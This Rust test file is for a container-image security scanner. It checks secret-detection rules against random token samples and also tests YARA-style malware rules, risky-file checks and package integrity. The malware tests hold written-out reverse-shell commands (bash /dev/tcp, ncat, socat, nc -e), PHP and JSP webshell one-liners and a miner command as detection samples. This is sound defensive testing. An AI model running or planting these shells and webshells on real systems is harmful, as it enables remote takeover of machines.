//! moat-content's scanners on generated inputs: every family of secret rules on a
//! format-valid (random) sample, the allow-lists, redaction, user configs; the YARA
//! subset's bundled rules; risky files and integrity on a generated tree.

#![allow(clippy::unwrap_used)]

use moat_content::secrets::{SecretScanner, Target};
use moat_content::{ContentOptions, Engine};
use moat_fs::{DirResolver, MemResolver};
use std::os::unix::fs::PermissionsExt;

/// Deterministic pseudo-random characters (splitmix64), so samples differ per family.
fn rand(seed: u64, alphabet: &str, n: usize) -> String {
    let a: Vec<char> = alphabet.chars().collect();
    let mut x = seed;
    (0..n)
        .map(|_| {
            x = x.wrapping_add(0x9e37_79b9_7f4a_7c15);
            let mut z = x;
            z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
            z ^= z >> 31;
            a[(z % a.len() as u64) as usize]
        })
        .collect()
}

const AN: &str = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
const HEX: &str = "0123456789abcdef";
const B32: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";

fn samples() -> Vec<(&'static str, String, String)> {
    // (rule, path, text)
    let f = |p: &str| p.to_string();
    vec![
        (
            "aws-access-key-id",
            f("/a"),
            format!("key={}", "AKIA".to_string() + &rand(1, B32, 16)),
        ),
        (
            "aws-secret-access-key",
            f("/a"),
            format!("aws_secret_access_key = {}", rand(2, AN, 40)),
        ),
        (
            "gcp-api-key",
            f("/a"),
            format!("k = \"AIza{}\"", rand(3, AN, 35)),
        ),
        ("github-pat", f("/a"), format!("t=ghp_{}", rand(4, AN, 36))),
        (
            "github-fine-grained-pat",
            f("/a"),
            format!("t=github_pat_{}", rand(5, AN, 82)),
        ),
        (
            "gitlab-pat",
            f("/a"),
            format!("t=glpat-{}", rand(6, AN, 20)),
        ),
        (
            "slack-bot-token",
            f("/a"),
            format!(
                "xoxb-{}-{}-{}",
                rand(7, "0123456789", 11),
                rand(8, "0123456789", 12),
                rand(9, AN, 24)
            ),
        ),
        (
            "stripe-secret-key",
            f("/a"),
            format!("sk_live_{}", rand(10, AN, 24)),
        ),
        (
            "twilio-api-key",
            f("/a"),
            format!("twilio key SK{}", rand(11, HEX, 32)),
        ),
        (
            "sendgrid-api-key",
            f("/a"),
            format!("SG.{}.{}", rand(12, AN, 22), rand(13, AN, 43)),
        ),
        (
            "npm-access-token",
            f("/a"),
            format!("npm_{}", rand(14, AN, 36)),
        ),
        (
            "pypi-upload-token",
            f("/a"),
            format!("pypi-AgEIcHlwaS5vcmc{}", rand(15, AN, 60)),
        ),
        (
            "openssh-private-key",
            f("/a"),
            format!(
                "-----BEGIN OPENSSH PRIVATE KEY-----\n{}\n{}\n-----END OPENSSH PRIVATE KEY-----\n",
                rand(16, AN, 70),
                rand(17, AN, 70)
            ),
        ),
        (
            "private-key",
            f("/a"),
            format!(
                "-----BEGIN RSA PRIVATE KEY-----\n{}\n{}\n-----END RSA PRIVATE KEY-----\n",
                rand(18, AN, 64),
                rand(19, AN, 64)
            ),
        ),
        (
            "pgp-private-key",
            f("/a"),
            format!(
                "-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n{}\n{}\n-----END PGP PRIVATE KEY BLOCK-----\n",
                rand(20, AN, 64),
                rand(21, AN, 64)
            ),
        ),
        (
            "jwt",
            f("/a"),
            format!(
                "eyJhbGciOiJIUzI1NiJ9.eyJ{}.{}",
                rand(22, AN, 30),
                rand(23, AN, 43)
            ),
        ),
        (
            "database-url-password",
            f("/a"),
            format!(
                "DATABASE_URL=postgresql://app:{}@db:5432/x",
                rand(24, AN, 16)
            ),
        ),
        (
            "docker-config-auth",
            f("/root/.docker/config.json"),
            format!(
                "{{\"auths\":{{\"r\":{{\"auth\":\"{}\"}}}}}}",
                rand(25, AN, 28)
            ),
        ),
        (
            "git-credentials",
            f("/home/u/.git-credentials"),
            format!("https://u:{}@github.com", rand(26, AN, 20)),
        ),
        (
            "npmrc-auth",
            f("/app/.npmrc"),
            format!("//r/:_authToken={}", rand(27, AN, 30)),
        ),
        (
            "netrc-password",
            f("/root/.netrc"),
            format!("machine m login l password {}", rand(28, AN, 14)),
        ),
        (
            "azure-storage-account-key",
            f("/a"),
            format!("AccountKey={}==", rand(29, AN, 86)),
        ),
        (
            "digitalocean-pat",
            f("/a"),
            format!("dop_v1_{}", rand(30, HEX, 64)),
        ),
        (
            "huggingface-token",
            f("/a"),
            format!(
                "hf_{}",
                rand(
                    31,
                    "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ",
                    34
                )
            ),
        ),
        (
            "age-secret-key",
            f("/a"),
            format!(
                "AGE-SECRET-KEY-1{}",
                rand(32, "QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L", 58)
            ),
        ),
        (
            "generic-secret-assignment",
            f("/app/x.py"),
            format!("db_password = \"{}\"", rand(33, AN, 20)),
        ),
        (
            "authorization-header",
            f("/a"),
            format!("Authorization: Bearer {}", rand(34, AN, 32)),
        ),
    ]
}

#[test]
fn over_a_hundred_rules_each_with_a_prefilter() {
    let s = SecretScanner::bundled().unwrap();
    assert!(s.rules().len() >= 100, "{} rules", s.rules().len());
    for r in s.rules() {
        assert!(
            !r.keywords.is_empty() || r.id == "rails-master-key",
            "{} has no keyword",
            r.id
        );
    }
}

#[test]
fn every_family_sample_is_found_and_redacted() {
    let s = SecretScanner::bundled().unwrap();
    for (rule, path, text) in samples() {
        let found = s.scan(&path, text.as_bytes(), Target::File, false);
        let hit = found.iter().find(|f| f.rule == rule);
        assert!(hit.is_some(), "{rule} missed in {text:?}: {found:?}");
        let hit = hit.unwrap();
        assert!(hit.redacted.contains('*'));
        assert!(
            !hit.snippet.contains(&text[text.len() - 12..]),
            "{rule}: snippet shows the secret"
        );
        assert!(hit.length >= 8);
    }
}

#[test]
fn allow_lists_and_placeholders_are_quiet() {
    let s = SecretScanner::bundled().unwrap();
    for (path, text) in [
        ("/a", "AKIAIOSFODNN7EXAMPLE"),
        ("/a", "password = \"changeme\""),
        ("/a", "postgres://user:password@localhost/db"),
        ("/a", "api_key = \"${API_KEY}\""),
        ("/a", "token: \"{{ .Values.token }}\""),
        (
            "/usr/share/doc/x/README",
            "ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab",
        ),
        (
            "/usr/lib/python3/dist-packages/x/tests/t.py",
            "sk_live_4eC39HqLyjWDarjtT1zdp7dc",
        ),
        ("/a", "password_hash = \"password_reset_token\""),
    ] {
        let f = s.scan(path, text.as_bytes(), Target::File, false);
        assert!(f.is_empty(), "{path}: {text}: {f:?}");
    }
    // Binary files are skipped (no rule asks for them).
    let mut bin = b"\0\x01\x02".to_vec();
    bin.extend_from_slice(format!("ghp_{}", rand(40, AN, 36)).as_bytes());
    assert!(s.scan("/bin/x", &bin, Target::File, false).is_empty());
    // Generic keyword rules skip files a package installed.
    let t = format!("db_password = \"{}\"", rand(41, AN, 20));
    assert!(
        !s.scan("/app/x.py", t.as_bytes(), Target::File, false)
            .is_empty()
    );
    assert!(
        s.scan("/usr/lib/x.py", t.as_bytes(), Target::File, true)
            .is_empty()
    );
}

#[test]
fn findings_have_line_and_column() {
    let s = SecretScanner::bundled().unwrap();
    let text = format!("a\nb\n  t = ghp_{}\n", rand(42, AN, 36));
    let f = s.scan("/x", text.as_bytes(), Target::File, false);
    assert_eq!((f[0].location.line, f[0].location.column), (3, 7));
    assert_eq!(f[0].redacted.len(), 40);
    assert!(f[0].redacted.starts_with("ghp_*"));
    assert_eq!(f[0].snippet, format!("  t = {}", f[0].redacted));
}

#[test]
fn user_config_adds_disables_and_allows() {
    let d = tempfile::tempdir().unwrap();
    let p = d.path().join("c.yaml");
    std::fs::write(
        &p,
        "rules:\n  - id: acme-key\n    category: Acme\n    title: Acme key\n    severity: HIGH\n    keywords: [acme_]\n    regex: '\\b(acme_[0-9a-f]{16})\\b'\ndisable: [github-pat]\nallow:\n  values: ['^acme_0000']\n",
    )
    .unwrap();
    let s = SecretScanner::new(Some(&p)).unwrap();
    let f = s.scan(
        "/x",
        b"k=acme_9f8e7d6c5b4a3f2e ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa1",
        Target::File,
        false,
    );
    let rules: Vec<&str> = f.iter().map(|x| x.rule.as_str()).collect();
    assert_eq!(rules, vec!["acme-key"]);
    assert!(
        s.scan("/x", b"acme_0000aaaaaaaaaaaa", Target::File, false)
            .is_empty()
    );
    // Errors name the file and the rule.
    std::fs::write(&p, "rules:\n  - id: bad\n    category: x\n    title: x\n    severity: HIGH\n    regex: '(unclosed'\n").unwrap();
    let e = SecretScanner::new(Some(&p)).unwrap_err().to_string();
    assert!(e.contains("c.yaml") && e.contains("bad"), "{e}");
    std::fs::write(&p, "rulez: []\n").unwrap();
    assert!(SecretScanner::new(Some(&p)).is_err());
}

#[test]
fn config_env_labels_and_history_are_scanned() {
    let s = SecretScanner::bundled().unwrap();
    let mut meta = moat_model::ImageMetadata::default();
    meta.config.env = vec![
        "PATH=/usr/bin".into(),
        format!("API_TOKEN={}", rand(50, AN, 20)),
        "PASSWORD_FILE=/run/secrets/pw".into(),
    ];
    meta.config
        .labels
        .insert("ci.token".into(), format!("glpat-{}", rand(51, AN, 20)));
    meta.history = vec![
        moat_model::HistoryEntry {
            created_by: "ADD rootfs /".into(),
            ..Default::default()
        },
        moat_model::HistoryEntry {
            created_by: format!(
                "RUN curl -u bot:{} https://x.example.com/a",
                rand(52, AN, 14)
            ),
            ..Default::default()
        },
    ];
    meta.layers = vec![
        moat_model::LayerInfo {
            diff_id: "sha256:l0".into(),
            ..Default::default()
        },
        moat_model::LayerInfo {
            diff_id: "sha256:l1".into(),
            ..Default::default()
        },
    ];
    let f = moat_content::config::scan(&s, &meta);
    let got: Vec<(&str, &str, u32, &str)> = f
        .iter()
        .map(|x| {
            (
                x.rule.as_str(),
                x.location.path.as_str(),
                x.location.line,
                x.location.layer.as_str(),
            )
        })
        .collect();
    assert_eq!(
        got,
        vec![
            ("generic-env-secret", "config:Env", 2, ""),
            ("gitlab-pat", "config:Labels", 1, ""),
            ("curl-user-password", "history:1", 1, "sha256:l1"),
        ]
    );
}

#[test]
fn bundled_malware_rules_match_their_samples_only() {
    let e = Engine::new(ContentOptions {
        malware: true,
        ..Default::default()
    })
    .unwrap();
    let eicar = format!(
        "X5O!P%@AP[4\\PZX54(P^)7CC)7}}${}",
        "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    );
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("/x/e.com", eicar.into_bytes(), "EICAR_Test_File"),
        (
            "/x/m.sh",
            b"./xmrig -o stratum+tcp://p.example:3333 --donate-level 1".to_vec(),
            "CryptoMiner_Stratum",
        ),
        (
            "/x/r.sh",
            b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1".to_vec(),
            "ReverseShell_DevTcp",
        ),
        (
            "/x/n.sh",
            b"ncat 10.0.0.1 4444 -e /bin/bash".to_vec(),
            "ReverseShell_Netcat",
        ),
        (
            "/x/s.sh",
            b"socat tcp:10.0.0.1:4444 exec:/bin/sh,pty".to_vec(),
            "ReverseShell_Socat",
        ),
        (
            "/x/w.php",
            b"<?php eval(base64_decode($_POST['z'])); ?>".to_vec(),
            "Webshell_PHP_Eval",
        ),
        (
            "/x/w.jsp",
            b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>".to_vec(),
            "Webshell_JSP_Exec",
        ),
        (
            "/etc/ld.so.preload",
            b"/lib/x.so\n".to_vec(),
            "ld-so-preload",
        ),
        (
            "/x/p",
            b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0UPX!....".to_vec(),
            "Packed_ELF_UPX",
        ),
        (
            "/tmp/a",
            b"\x7fELF\x02\x01\x01\0".to_vec(),
            "elf-in-temp-dir",
        ),
    ];
    for (path, data, rule) in cases {
        let f = e.scan_file(path, &data, false).malware;
        assert!(f.iter().any(|m| m.rule == rule), "{rule} missed: {f:?}");
        assert_eq!(f[0].sha256.len(), 64);
    }
    for clean in [
        &b"#!/bin/sh\nexec /usr/bin/python3 \"$@\"\n"[..],
        b"# comment only\n",
        b"echo /dev/tcp is a bash feature",
        b"<?php echo htmlspecialchars($_GET['q']); ?>",
    ] {
        let f = e.scan_file("/x/c", clean, false).malware;
        assert!(f.is_empty(), "{:?}: {f:?}", String::from_utf8_lossy(clean));
    }
    assert!(
        e.scan_file("/etc/ld.so.preload", b"# nothing\n\n", false)
            .malware
            .is_empty()
    );
}

#[test]
fn risky_files_in_a_tree() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    let w = |p: &str, c: &[u8], mode: u32| {
        let full = r.join(p);
        std::fs::create_dir_all(full.parent().unwrap()).unwrap();
        std::fs::write(&full, c).unwrap();
        std::fs::set_permissions(&full, std::fs::Permissions::from_mode(mode)).unwrap();
    };
    w(
        "var/lib/dpkg/info/login.list",
        b"/.\n/usr\n/usr/bin\n/usr/bin/su\n",
        0o644,
    );
    w("usr/bin/su", b"x", 0o4755);
    w("usr/local/bin/sh2", b"x", 0o4755);
    w("usr/local/bin/g", b"x", 0o2755);
    w("etc/ssh/ssh_host_rsa_key", b"k", 0o600);
    w("etc/ssh/ssh_host_rsa_key.pub", b"k", 0o644);
    w("home/u/.ssh/authorized_keys", b"ssh-ed25519 AAAA", 0o600);
    w("src/.git/HEAD", b"ref: x\n", 0o644);
    w("src/.git/objects/ab", b"0123456789", 0o644);
    w("var/cache/apt/archives/x.deb", b"0123", 0o644);
    w("var/cache/apt/archives/lock", b"", 0o644);
    w("var/lib/apt/lists/lock", b"", 0o644);
    std::fs::create_dir_all(r.join("drop")).unwrap();
    std::fs::set_permissions(r.join("drop"), std::fs::Permissions::from_mode(0o777)).unwrap();
    std::fs::create_dir_all(r.join("tmp2")).unwrap();
    std::fs::set_permissions(r.join("tmp2"), std::fs::Permissions::from_mode(0o1777)).unwrap();
    let res = DirResolver::new(r).unwrap();
    let own = moat_content::files::Ownership::load(&res);
    let f = moat_content::files::scan(&res, &own);
    let mut got: Vec<(String, String, u64)> = f
        .iter()
        .map(|x| (x.rule.clone(), x.location.path.clone(), x.size))
        .collect();
    got.sort();
    let want: Vec<(String, String, u64)> = [
        ("authorized-keys", "/home/u/.ssh/authorized_keys", 16),
        ("git-directory", "/src/.git", 17),
        ("package-cache", "/var/cache/apt/archives", 4),
        ("setgid-unowned", "/usr/local/bin/g", 1),
        ("setuid-unowned", "/usr/local/bin/sh2", 1),
        ("ssh-host-key", "/etc/ssh/ssh_host_rsa_key", 1),
        ("world-writable-dir", "/drop", 0),
    ]
    .iter()
    .map(|(a, b, c)| (a.to_string(), b.to_string(), *c))
    .collect();
    assert_eq!(got, want);
}

#[test]
fn integrity_compares_dpkg_and_apk_databases() {
    let md5 = |s: &[u8]| {
        use md5::Digest;
        hex::encode(md5::Md5::digest(s))
    };
    let sha1_b64 = |s: &[u8]| {
        use base64::Engine as _;
        use sha1::Digest;
        base64::engine::general_purpose::STANDARD.encode(sha1::Sha1::digest(s))
    };
    let r = MemResolver::new()
        .symlink("/bin", "usr/bin")
        .file("/usr/bin/ls", "tampered")
        .file("/usr/bin/cat", "cat")
        .file("/usr/bin/dash", "diverted")
        .file("/etc/issue", "edited")
        .file("/etc/ok.conf", "ok")
        .file("/sbin/apk", "changed")
        .file("/etc/apk/arch", "x86_64\n")
        // Local state a system's setup rewrites: not tampering.
        .file("/etc/hostname", "box\n")
        .file(
            "/var/lib/dpkg/info/coreutils.md5sums",
            format!("{}  bin/ls\n{}  usr/bin/cat\n{}  usr/bin/dash\n", md5(b"ls"), md5(b"cat"), md5(b"dash")),
        )
        .file("/var/lib/dpkg/diversions", "/usr/bin/dash\n/usr/bin/dash.real\nx\n")
        .file(
            "/var/lib/dpkg/status",
            format!(
                "Package: base-files\nStatus: install ok installed\nConffiles:\n /etc/issue {}\n /etc/ok.conf {}\n /etc/gone.conf {} obsolete\nDescription: x\n",
                md5(b"orig"),
                md5(b"ok"),
                md5(b"z")
            ),
        )
        .file(
            "/lib/apk/db/installed",
            format!(
                "P:apk-tools\nV:1\nF:sbin\nR:apk\nZ:Q1{}\nF:etc/apk\nR:arch\nZ:Q1{}\n\nP:alpine-baselayout\nF:etc\nR:hostname\nZ:Q1{}\n\n",
                sha1_b64(b"orig"),
                sha1_b64(b"x86_64\n"),
                sha1_b64(b"localhost\n")
            ),
        )
        .with_layer("/usr/bin/ls", "sha256:top");
    let f = moat_content::integrity::scan(&r, 1 << 20);
    let got: Vec<(&str, &str, &str, bool)> = f
        .iter()
        .map(|x| {
            (
                x.rule.as_str(),
                x.location.path.as_str(),
                x.package.as_str(),
                x.config,
            )
        })
        .collect();
    assert_eq!(
        got,
        vec![
            (
                "package-conffile-modified",
                "/etc/issue",
                "base-files",
                true
            ),
            ("package-file-modified", "/sbin/apk", "apk-tools", false),
            ("package-file-modified", "/usr/bin/ls", "coreutils", false),
        ]
    );
    assert_eq!(f[2].location.layer, "sha256:top");
    assert_eq!(f[2].expected, md5(b"ls"));
    assert_eq!(f[2].actual, md5(b"tampered"));
}

/// The YARA subset's prefilter: regexes run only at their atoms' hits (anchored), or
/// over the file past too many hits; rules whose literal strings already rule them
/// out skip their regexes. The results must be those of a plain search.
#[test]
fn yara_regex_prefilter_keeps_the_semantics() {
    use moat_content::yara::{Rules, parse};
    let rules = Rules::new(
        parse(
            "t.yar",
            r#"
            rule hex_plain { strings: $h = { 41 42 43 44 } condition: $h }
            rule re_count { strings: $r = /ab+c/ condition: #r >= 2 }
            rule re_nocase { strings: $s = /SoCaT\s+tcp/ nocase condition: $s }
            rule gated { strings: $lit = "<?" $e = /eval\s*\(/ condition: $lit and $e }
            rule negated { strings: $a = "zzz" $r = /q+r/ condition: not $a and $r }
            rule no_atoms { strings: $r = /[a-c]x/ condition: $r }
            "#,
        )
        .unwrap(),
    )
    .unwrap();
    let names = |d: &[u8]| -> Vec<String> {
        let mut v: Vec<String> = rules
            .scan(d)
            .iter()
            .map(|m| rules.rules[m.rule].name.clone())
            .collect();
        v.sort();
        v
    };
    assert_eq!(names(b"..ABCD.."), vec!["hex_plain"]);
    assert!(names(b"..abcd..").is_empty(), "hex is case-sensitive");
    assert_eq!(names(b"abc abbbc"), vec!["re_count"]);
    assert!(names(b"abc abd").is_empty());
    assert_eq!(names(b"SOCAT   TCP:1.2.3.4:5"), vec!["re_nocase"]);
    assert_eq!(names(b"<?php eval ($x)"), vec!["gated"]);
    assert!(names(b"eval($x)").is_empty(), "the literal gate");
    assert_eq!(names(b"qqr"), vec!["negated"]);
    assert!(names(b"qqr zzz").is_empty());
    assert_eq!(names(b"bx"), vec!["no_atoms"]);
    // Offsets: the first match, as a plain search gives it.
    let m = rules.scan(b"xx abbc abc");
    assert_eq!(m[0].strings[0].1, 3);
    // Many atom hits (over the anchored-search cap): still found, at the right place.
    let mut hay = b"ab ".repeat(400);
    hay.extend_from_slice(b"abbbc abc");
    let m = rules.scan(&hay);
    assert_eq!(rules.rules[m[0].rule].name, "re_count");
    assert_eq!(m[0].strings[0].1, 1200);
}

/// The bundled netcat rule on a binary-like file with hundreds of `nc` atoms before
/// the real command.
#[test]
fn netcat_rule_past_many_atom_hits() {
    let e = Engine::new(ContentOptions {
        malware: true,
        ..Default::default()
    })
    .unwrap();
    let mut data = b"func sync inc trunc ".repeat(300);
    data.extend_from_slice(b"\nnc -e /bin/sh 10.0.0.1 4444\n");
    let f = e.scan_file("/x/y", &data, false).malware;
    assert!(f.iter().any(|m| m.rule == "ReverseShell_Netcat"), "{f:?}");
    let clean = b"func sync inc trunc /bin/sh ".repeat(300);
    assert!(e.scan_file("/x/z", &clean, false).malware.is_empty());
}

/// File capabilities as the real `setcap` (libcap 2.66) writes them into
/// `security.capability` (values read back with os.getxattr): decoded, printed as
/// `getcap` does, and classed.
#[test]
fn file_capabilities_decode_as_getcap_prints_them() {
    use moat_content::files::FileCaps;
    let h = |s: &str| hex::decode(s).unwrap();
    // setcap cap_net_raw,cap_sys_admin+ep
    let c = FileCaps::parse(&h("0100000200202000000000000000000000000000")).unwrap();
    assert_eq!(c.text(), "cap_net_raw,cap_sys_admin=ep");
    assert!(c.privileged());
    // setcap cap_net_raw+p
    let c = FileCaps::parse(&h("0000000200200000000000000000000000000000")).unwrap();
    assert_eq!(c.text(), "cap_net_raw=p");
    assert!(!c.privileged());
    // setcap cap_checkpoint_restore,cap_chown=eip (a bit in the second word)
    let c = FileCaps::parse(&h("0100000201000000010000000001000000010000")).unwrap();
    assert_eq!(c.text(), "cap_chown,cap_checkpoint_restore=eip");
    // Wrong sizes and revisions are not capabilities.
    assert!(FileCaps::parse(&h("01000002002020000000")).is_none());
    assert!(FileCaps::parse(&h("0100000400202000000000000000000000000000")).is_none());
    assert!(FileCaps::parse(b"").is_none());
}
